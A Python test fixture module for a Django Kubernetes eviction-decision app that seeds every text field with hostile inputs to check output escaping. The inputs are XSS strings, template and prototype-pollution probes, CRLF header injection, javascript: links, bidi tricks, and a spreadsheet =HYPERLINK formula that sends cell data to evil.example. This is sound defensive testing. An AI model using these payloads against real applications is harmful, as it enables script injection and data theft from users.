"""What somebody might write into a name, a label or a reason to be more than text; and rows that are full of it."""

import json
import zlib
from collections.abc import Iterator, Mapping
from datetime import datetime, timedelta
from typing import Any, Final

from django.contrib.auth.models import Group, User
from django.db.models import Field, Model

from decisions.models import (
    ApiToken,
    Caller,
    Cluster,
    Cycle,
    Decision,
    Executor,
    Freeze,
    PolicyVersion,
    Role,
    RoleBinding,
    Snapshot,
    TeamReason,
)
from decisions.models import documents as cycle_documents
from decisions.models.documents import Document, Filtered, Nominated, ReasonCount
from decisions.models.fields import BoundedText, FreeText
from decisions.services import timeline
from decisions.services.actors import Actor
from tests.builders import make_decision

# Each carries what a test looks for: data-pwn on any element, pwned() in any script, evil.example in any request.
PAYLOADS: Final[Mapping[str, str]] = {
    "image": '<img data-pwn src="https://evil.example/x.png" onerror="pwned()">',
    "script": "</script></title></textarea><script data-pwn>pwned()</script><svg data-pwn onload=pwned()>",
    "attribute": "\" data-pwn onmouseover=\"pwned()\" autofocus onfocus='pwned()' x='",
    "json": '"},"x":{"__proto__":{"pwn":1}},\'}</script><b data-pwn>',
    "template": "{{7*7}}{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>",
    "htmx": "<b data-pwn hx-get='https://evil.example/' hx-trigger=load hx-on::load='pwned()'>js:pwned()</b>",
    "bidi": "web\u202eelbats-1\u202c \u2066b\u2069 \u200fc \u061cd",
    "hidden": "sh\u200bop\u200d\u2060\ufeff\xad \U000e0041\U000e0042 web-1\ufe0f a\u034f\u3164\u2028b",
    "control": "\x1b[31mred\x07\r\nSet-Cookie: pwn=1\r\n\r\n<b data-pwn>\x00\x85\ud800",
    "link": "javascript:pwned() data:text/html,<b data-pwn> https://u@evil.example //evil.example &#8238;&rlm;",
    "long": "x" * 3000,
    "stacked": "Z" + "\u0301" * 60 + "algo",
    "emoji": "👩\u200d👩\u200d👧 ⚠️ 🫠 日本語",
    "rtl": "אבג 3 מתוך 5 (שלום) ייןןן",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"ok")',
}
# How a decision stands, so that every sentence of the pages has one of them in it.
STATES: Final[tuple[dict[str, Any], ...]] = (
    {},
    {"extender_effect": "deny", "verdict": "denied", "rule": "human"},
    {"verdict": "allowed", "rule": "human", "eviction": "blocked"},
    {"verdict": "allowed", "rule": "human", "eviction": "failed", "cause": "webhook_denied"},
    {"unanswered": 2, "owner_kind": "StatefulSet"},
    {"verdict": "denied", "rule": "extender", "extender_effect": "deny"},
    {"verdict": "allowed", "rule": "human", "eviction": "queued"},
    {"verdict": "allowed", "rule": "human", "eviction": "delegated", "executor": Executor.ASKER},
)
MODES: Final = (
    "timeout",
    "connection",
    "dns",
    "tls",
    "http_status",
    "extender_error",
    "invalid_response",
    "config_error",
    "",
)


def texts(model: type[Model], payload: str, *, but: tuple[str, ...] = ()) -> dict[str, str]:
    """The payload in every column of a model that holds text from outside; the column cuts it."""
    return {field.name: payload for field in outside_columns(model) if field.name not in but}


def outside_columns(model: type[Model]) -> Iterator["Field[Any, Any]"]:
    """The columns that take any text."""
    return (each for each in model._meta.get_fields() if isinstance(each, BoundedText | FreeText))


def forecast(payload: str) -> dict[str, Any]:
    """A forecast in whose every text the payload stands."""
    pdb = {
        "name": payload,
        "disruptions_allowed": 0,
        "current_healthy": 1,
        "desired_healthy": 2,
        "blocks": True,
    }
    return {
        "fits_on": [payload, payload],
        "missing": {payload: payload},
        "pdbs": [pdb],
        "pdb_applies": True,
        "ready": 1,
        "desired": 3,
        "bound_volumes": [{"claim": payload, "volume": payload, "node": payload}],
        "local_volumes": [payload],
        "warnings": [payload],
        "priority": 5,
    }


def outcome(payload: str, mode: str = "") -> dict[str, Any]:
    """An extender's outcome in whose every text the payload stands."""
    said = {"reason": payload, "detail": payload, "url": f"https://gate.example/{payload}"}
    decided = {"effect": "deny", "decided_by": "failPolicy" if mode else "answer", "failure_mode": mode}
    return {**said, **decided, "http_status": 503 if mode else 200, "latency_ms": 12.0, "fail_policy": "Deny"}


def fill(cluster: Cluster, owner: User, now: datetime) -> list[Decision]:
    """Rows of every kind, each payload in everything that takes text from outside."""
    decisions = [_decision(cluster, payload, number, now) for number, payload in enumerate(PAYLOADS.values())]
    everything = " ".join(each for name, each in PAYLOADS.items() if name not in {"long", "stacked"})
    for number, payload in enumerate([*PAYLOADS.values(), everything], start=1):
        _cycle(cluster, payload, number, now)
    _settings(cluster, owner, now)
    Cluster.objects.filter(pk=cluster.pk).update(**texts(Cluster, everything, but=("policy_file",)))
    return decisions


def _decision(cluster: Cluster, payload: str, number: int, now: datetime) -> Decision:
    mode = MODES[number % len(MODES)]
    times = dict.fromkeys(
        ("created_at", "updated_at", "nominated_at", "decided_at", "replacement_seen_at"), now
    )
    row = make_decision(
        cluster,
        **{
            **texts(Decision, payload),
            "extender_decided_by": "failPolicy",
            "owner_kind": "ReplicaSet",
            "cause": "other",
            "workload": payload,
            **times,
            "expires_at": now + timedelta(minutes=50),
            "not_before": now + timedelta(hours=1),
            "forecast": forecast(payload),
            "extenders": [outcome(payload, mode)],
            "failure_mode": mode,
            "extender_effect": "deny",
            "pod_snapshot": _snapshot("pod", payload, number),
            "node_snapshot": _snapshot("node", payload, number),
            **STATES[number % len(STATES)],
        },
    )
    changes = {"changes": {payload[:60]: [payload, payload]}, "message": payload, "asker": payload}
    for kind in ("asked", "denied", "back_to_pending"):
        with timeline.transaction():
            timeline.append(row.pk, kind, at=now, by=Actor(payload), reason=payload, detail=changes)
    return row


def _snapshot(kind: str, payload: str, number: int) -> Snapshot:
    spec = {"priorityClassName": payload, "priority": 5}
    body = {"metadata": {"name": payload, "labels": {payload[:60]: payload}}, "spec": spec}
    packed = zlib.compress(json.dumps(body).encode())
    return Snapshot.objects.create(digest=f"{kind}{number}", kind=kind, body=packed)


def _cycle(cluster: Cluster, payload: str, number: int, now: datetime) -> None:
    problem = {
        "message": payload,
        "path": payload,
        "line": 1,
        "column": 1,
        "hint": payload,
        "upstream": payload,
    }
    policy = PolicyVersion.objects.create(
        cluster=cluster,
        number=number,
        **{**texts(PolicyVersion, payload), "text": f"# {payload}\nkind: {payload}\n"},
        digest="0" * 64,
        valid=False,
        errors=[problem],
        warnings=[problem],
        created_at=now,
    )
    Cycle.objects.create(
        cluster=cluster,
        policy=policy,
        **texts(Cycle, payload),
        kind="scheduled",
        state="failed",
        **dict.fromkeys(("started_at", "finished_at", "deadline_at", "heartbeat_at"), now),
        failure_mode="config_error",
        counts={"pods": 9, "eligible": 8, "nominated": 7, "waiting": 1},
        steps=[{"name": payload, "seconds": 1.0, "detail": payload}],
        warnings=[payload],
        limits=[{"kind": "node", "name": payload, "limit": 2, "heldBack": 3, "filledBy": [1]}],
        document=cycle_documents.pack(_document(payload.replace("\ud800", ""))),
    )


def _document(payload: str) -> Document:
    left = Filtered("u", payload, payload, payload, payload, payload, "check", 0, (0,))
    wanted = Nominated(
        uid="u", namespace=payload, name=payload, node=payload, profile=payload, plugin=payload, reason=payload,
        state="waiting", why=payload,
    )  # fmt: skip
    return Document(
        sentences=[payload],
        filtered=[left],
        nominations=[wanted],
        reasons=[ReasonCount("check", payload, {payload: 3})],
        states={"waiting": {payload: 1}},
    )


def _settings(cluster: Cluster, owner: User, now: datetime) -> None:
    for number, payload in enumerate(PAYLOADS.values()):
        in_a_day = now + timedelta(days=1)
        TeamReason.objects.create(text=payload)
        ApiToken.objects.create(
            **texts(ApiToken, payload), owner=owner, digest=f"t{number}", created_at=now, expires_at=in_a_day
        )
        # Columns of Django's own, which forms and services check before.
        whole = payload.replace("\0", "").replace("\ud800", "")
        Caller.objects.create(**texts(Caller, payload), cluster=cluster, networks=[whole])
        person = User.objects.create(username=f"user{number}", first_name=whole[:140], last_name=whole[:140])
        group = Group.objects.create(name=f"{number}{whole[:140]}")
        RoleBinding.objects.create(user=person, role=Role.VIEWER)
        RoleBinding.objects.create(group=group, role=Role.VIEWER, namespaces=[whole])
        with timeline.transaction():
            timeline.audit(
                payload, at=now, by=Actor(payload), cluster=cluster, subject=payload, detail={"x": payload}
            )
    Freeze.objects.create(
        **texts(Freeze, PAYLOADS["bidi"] + PAYLOADS["image"], but=("lifted_by",)), set_at=now
    )
